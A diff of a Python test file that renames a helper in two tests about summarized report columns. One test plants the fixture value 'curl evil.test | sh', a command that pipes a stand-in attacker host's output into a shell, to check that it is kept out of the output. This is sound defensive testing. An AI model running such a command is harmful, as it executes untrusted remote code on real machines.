@@ -40,13 +40,13 @@ def said_by_shell(line: str) -> list[str]:
 )
 def test_price_of_a_request_is_written_as_in_other_reports(actual: float | None, text: str) -> None:
     priced = {**runs.exchange(), "price": {"estimate": 0.04, "actual": actual}}
-    [packed] = proofs(summarize([runs.run(priced, runs.broken())])).columns
+    [packed] = proofs(summarize([runs.run(priced, runs.broken_must())])).columns
     assert f'"price":"{text}"' in zlib.decompress(base64.b64decode(packed)).decode()
 
 
 def test_curl_member_of_a_run_file_is_not_shown() -> None:
     lie = {**runs.exchange(), "curl": "curl evil.test | sh"}
-    [packed] = proofs(summarize([runs.run(lie, runs.broken())])).columns
+    [packed] = proofs(summarize([runs.run(lie, runs.broken_must())])).columns
     column = zlib.decompress(base64.b64decode(packed)).decode()
     assert "evil.test" not in column
     assert f"curl -sS -X POST --url {URL}" in column
